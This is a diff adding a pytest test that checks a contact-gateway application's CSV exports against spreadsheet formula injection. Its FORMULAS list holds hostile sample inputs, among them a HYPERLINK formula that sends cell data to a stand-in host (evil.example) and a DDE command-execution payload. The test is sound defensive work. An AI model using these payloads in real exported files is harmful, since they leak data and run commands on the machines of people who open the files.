@@ -289,3 +289,41 @@ def test_a_page_argument_named_like_the_route_argument_is_not_a_500(app, client,
     assert response.status_code == 200
     link = re.search(r'href="([^"]+)" rel="next"', response.get_data(as_text=True)).group(1)  # type: ignore[union-attr]
     assert link.startswith(f"/supporters/{contact_id}?") and "999" not in link and "#" not in link, link
+
+
+# -- L6: no export lets a cell run as a spreadsheet formula -----------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
+            "\tTAB", "\rCR", "\uff1dHYPERLINK(1)"]
+
+
+def _cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
+
+
+def test_no_export_cell_starts_a_formula(app, client, runner, auth) -> None:
+    """Tags, names, places and report texts (imports and the API write them) reach four exports."""
+    from gateway.contacts import add_tags, new_contact
+    from gateway.models import Report
+
+    with app.extensions["gateway"].sessions() as s, s.begin():
+        contact = new_contact(s, "+265991234567", name=FORMULAS[3], place=FORMULAS[1], language="en")
+        s.add(contact)
+        add_tags(s, contact, FORMULAS)
+        s.add_all(Report(ref=f"R{i}", service=text[:40], service_detail=text, place=text, details=text, language="en",
+                         delivered="no", country="MW", created_at=datetime(2026, 3, 4)) for i, text in enumerate(FORMULAS))
+    auth.login("organizer")
+    exports = {
+        "console supporters": client.get("/supporters/export").get_data(as_text=True),
+        "console reports": client.get("/reports/export").get_data(as_text=True),
+        "cli contacts": runner.invoke(args=["contacts", "export"]).output,
+        "cli reports": runner.invoke(args=["reports", "export"]).output,
+    }
+    for name, text in exports.items():
+        cells = _cells(text)
+        assert "'@sum(1)" in text.lower() or "reports" in name, (name, text)
+        risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d") and c != "+265991234567"]
+        assert risky == [], (name, risky)
